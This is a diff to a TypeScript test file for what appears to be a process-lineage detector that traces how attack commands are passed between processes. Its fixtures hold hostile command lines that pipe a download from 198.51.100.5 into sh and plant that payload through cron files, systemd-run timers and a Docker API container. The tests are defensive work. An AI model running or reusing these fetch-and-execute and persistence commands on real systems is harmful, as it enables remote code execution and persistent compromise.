@@ -38,7 +38,7 @@ const carried = (words: string, binary = "/usr/bin/systemd-run"): ProcessFact =>
 test("who hands a command over is the cause of who runs it, however it was quoted", () => {
   const lines = [
     '--on-active=5 /bin/sh -c "curl 198.51.100.5/k|sh"',
-    '-c "echo \'* * * * * root curl 198.51.100.5/k|sh\' > /mnt/etc/cron.d/x"',
+    "-c \"echo '* * * * * root curl 198.51.100.5/k|sh' > /mnt/etc/cron.d/x\"",
     '-d {"Cmd":["/bin/sh","-c","curl 198.51.100.5/k|sh"]} http://localhost/containers/create',
     'set x "\\n\\n*/1 * * * * /usr/bin/curl 198.51.100.5/k|sh\\n\\n"',
   ];
@@ -52,14 +52,17 @@ test("who hands a command over is the cause of who runs it, however it was quote
 });
 
 test("who ran it himself handed it to nobody: two victims of one attack stay two", () => {
-  const line = '-c "nohup sh -c \'curl 198.51.100.5/k|sh\'"';
+  const line = "-c \"nohup sh -c 'curl 198.51.100.5/k|sh'\"";
   const own = ran("own", 1, { entry: "a", container: webContainer });
   assert.deepEqual(linksOf(carried(line, "/bin/sh"), own, ran("b", 60)), []);
   assert.deepEqual(linksOf(ran("a", 0), ran("b", 60)), [], "the same command twice");
 });
 
 test("who looks for a command that ran before is not its cause", () => {
-  const search = ran("a", 30, { binary: "/usr/bin/pgrep", arguments: '-f "curl 198.51.100.5/k|sh"' });
+  const search = ran("a", 30, {
+    binary: "/usr/bin/pgrep",
+    arguments: '-f "curl 198.51.100.5/k|sh"',
+  });
   assert.deepEqual(linksOf(ran("b", 0), search, ran("c", 60)), []);
 });
 
@@ -80,6 +83,13 @@ test("the latest of those who handed it over counts", () => {
   assert.match(linksOf(carried(line), later, ran("b", 60)).join(), /^d-b/);
 });
 
+test("what is handed over once and runs each night goes on with its last run", () => {
+  const line = '--on-calendar=daily /bin/sh -c "curl 198.51.100.5/k|sh"';
+  const nights = [1, 25, 49, 100].map((hour) => ran(`b${hour}`, hour * 3600));
+  const found = linksOf(carried(line), ...nights).map((one) => one.replace(/:.*/, ""));
+  assert.deepEqual(found, ["a-b1", "b1-b25", "b25-b49"]);
+});
+
 test("words come without quotes, brackets and escapes; hostile lines are bounded", () => {
   assert.deepEqual(wordsOf({ arguments: `-c "a 'b\\n" [c,d]` }), ["-c", "a", "b", "n", "c", "d"]);
   assert.deepEqual(commandWords(ran("b", 0)), ["curl", "198.51.100.5/k|sh"]);
@@ -89,4 +99,16 @@ test("words come without quotes, brackets and escapes; hostile lines are bounded
   assert.equal(wordsOf({ arguments: "a b ".repeat(1_000_000) }).length, 512);
   const hostile = carried("curl x ".repeat(600), "/bin/sh");
   assert.deepEqual(linksOf(hostile, ran("b", 60, { arguments: "-c curl x ".repeat(600) })), []);
+});
+
+test("thousands of sessions with one command, or with commands that begin alike, cost no more", () => {
+  const count = 20_000;
+  const same = Array.from({ length: count }, (_, at) =>
+    ran(`s${at}`, at, { arguments: '-c "curl -s http://198.51.100.5/k | sh -c x y z"' }),
+  );
+  assert.deepEqual(linksOf(...same), []);
+  const alike = Array.from({ length: count }, (_, at) =>
+    ran(`s${at}`, at, { arguments: `-c "curl -s -k -L http://198.51.100.5/${at} | sh"` }),
+  );
+  assert.deepEqual(linksOf(...alike), []);
 });
